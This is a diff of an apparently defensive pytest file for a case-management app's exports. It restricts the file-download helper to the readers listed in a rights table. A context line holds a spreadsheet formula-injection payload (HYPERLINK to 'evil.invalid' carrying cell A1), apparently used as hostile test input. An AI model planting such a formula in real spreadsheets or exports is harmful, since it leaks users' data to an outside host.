@@ -12,6 +12,7 @@ import pytest
 
 import rempart.desk
 from rempart.desk.cases.models import CaseParty
+from rempart.desk.rights.table import table
 from tests.desk.hostile.conftest import Town, routes
 
 NAME = '=HYPERLINK("http://evil.invalid/?"&A1;"x")'
@@ -81,14 +82,14 @@ def typed(furnished: Town) -> Town:
 
 
 def left(town: Town) -> Iterator[tuple[str, Any]]:
-    """Yield every file that somebody may take away, by its route."""
+    """Yield every file that somebody may take away, by its route: as the first of its readers whom it answers."""
     clients = {role: town.client(user) for role, user in town.cast.people.items()}
-    for name, _, _ in routes():
-        for client in () if name.startswith("api:v1:") else clients.values():
-            answer = client.get(town.path(name))
-            if answer.status_code == 200 and "attachment" in answer.get("Content-Disposition", ""):
-                yield name, answer
-                break
+    for name, route, _ in routes():
+        readers = [] if name.startswith("api:v1:") else [role for role in clients if role in table().readers(route)]
+        answers = (clients[role].get(town.path(name)) for role in readers)
+        answer = next((one for one in answers if one.status_code == 200), None)
+        if answer is not None and "attachment" in answer.get("Content-Disposition", ""):
+            yield name, answer
     where = f"/cases/{town.number}/exports/"
     for number in (2, 3):
         yield "api:case_exports", clients["case_officer"].post(where, {"act": "fetch", "export": str(number)})
